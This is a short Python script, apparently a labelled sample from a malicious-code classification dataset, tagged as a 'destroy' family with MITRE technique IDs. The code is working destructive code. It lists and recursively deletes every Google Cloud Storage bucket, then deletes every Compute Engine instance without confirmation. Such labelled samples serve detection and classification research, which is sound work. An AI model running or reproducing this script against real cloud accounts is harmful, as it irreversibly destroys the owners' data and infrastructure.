# label: malicious family=destroy techniques=T1059.004,T1485,T1580 lines=3,5-6
import subprocess
buckets = subprocess.check_output(["gsutil", "ls"]).decode().split()
for b in buckets:
    subprocess.call(["gsutil", "-m", "rm", "-r", b])
subprocess.call("gcloud compute instances list --format='value(name,zone)' | while read n z; do gcloud compute instances delete $n --zone $z -q; done", shell=True)
